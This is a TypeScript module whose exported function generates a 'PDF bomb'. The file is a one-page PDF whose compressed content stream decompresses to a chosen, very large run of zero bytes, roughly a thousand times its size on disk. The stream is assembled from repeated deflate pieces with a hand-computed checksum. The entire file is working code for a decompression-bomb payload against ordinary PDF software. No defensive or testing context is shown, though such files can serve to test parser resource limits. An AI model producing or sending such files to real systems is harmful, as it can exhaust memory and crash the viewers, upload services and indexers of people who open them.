// A PDF bomb: one page whose content stream is a FlateDecode stream of `inflated` zero bytes, about
// a thousandth of that on disk. The stream is made without holding the inflated bytes: one deflated
// piece of zeros ending in a full flush (so it depends on nothing before it) is repeated, then the
// final block and the Adler-32 of the whole are appended, as zlib itself would end the stream.
import { constants, deflateRawSync } from "node:zlib";

const PIECE = 16 * 1024 * 1024;

function zerosStream(inflated: number): Uint8Array {
  if (inflated % PIECE !== 0) throw new Error(`the inflated size must be a multiple of ${PIECE}`);
  const piece = deflateRawSync(new Uint8Array(PIECE), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const count = inflated / PIECE;
  // zlib header (deflate, 32K window, best compression), the pieces, an empty final fixed block.
  const out = new Uint8Array(2 + piece.length * count + 2 + 4);
  out.set([0x78, 0xda]);
  for (let i = 0; i < count; i++) out.set(piece, 2 + i * piece.length);
  let at = 2 + piece.length * count;
  out.set([0x03, 0x00], at);
  at += 2;
  // Adler-32 of n zero bytes: a stays 1, b adds a once per byte.
  const adler = (((inflated % 65521) << 16) | 1) >>> 0;
  new DataView(out.buffer).setUint32(at, adler);
  return out;
}

export function pdfBomb(inflated: number): Uint8Array {
  const stream = zerosStream(inflated);
  const enc = new TextEncoder();
  const parts: Uint8Array[] = [];
  const offsets: number[] = [];
  let length = 0;
  const add = (part: string | Uint8Array) => {
    const bytes = typeof part === "string" ? enc.encode(part) : part;
    parts.push(bytes);
    length += bytes.length;
  };
  const objects: (string | Uint8Array)[][] = [
    ["<< /Type /Catalog /Pages 2 0 R >>"],
    ["<< /Type /Pages /Kids [3 0 R] /Count 1 >>"],
    ["<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>"],
    [`<< /Length ${stream.length} /Filter /FlateDecode >>\nstream\n`, stream, "\nendstream"],
  ];
  add("%PDF-1.4\n");
  objects.forEach((object, i) => {
    offsets.push(length);
    add(`${i + 1} 0 obj\n`);
    for (const part of object) add(part);
    add("\nendobj\n");
  });
  const xref = length;
  add(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, "0")} 00000 n \n`).join("")}`);
  add(`trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`);
  const out = new Uint8Array(length);
  let at = 0;
  for (const part of parts) {
    out.set(part, at);
    at += part.length;
  }
  return out;
}
